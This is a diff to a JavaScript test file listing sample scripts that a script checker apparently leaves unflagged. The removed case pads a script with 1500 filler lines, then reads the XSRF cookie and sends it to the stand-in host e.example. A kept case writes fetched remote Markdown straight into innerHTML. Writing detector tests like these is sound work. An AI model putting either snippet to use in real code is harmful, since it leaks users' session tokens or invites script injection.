@@ -74,10 +74,6 @@ describe('the checks do not hold a script', () => {
     ],
     ['binds a function to itself', 'let h = n; const f = () => { h = h.bind(h, el); h(); }; f();'],
     [
-      'looks for one cookie, as libraries do',
-      `${'var filler = { a: 1, b: 2, c: [3, 4, 5], d: function (x) { return x; } };\n'.repeat(1500)}function read(name) { for (var all = document.cookie.split(";"), i = 0; i < all.length; i++) if (all[i].indexOf(name) === 0) return all[i].slice(9); return null; }\nfunction send(url, o) { return fetch(o.base || "https://e.example/a", { headers: { "X-XSRF-TOKEN": read("XSRF") }, body: o.body }); }\nsend("/a", {});`,
-    ],
-    [
       'shows a readable file of another server',
       `const md = await (await fetch("https://raw.githubusercontent.com/a/b/README.md")).text(); el.innerHTML = marked.parse(md);`,
     ],
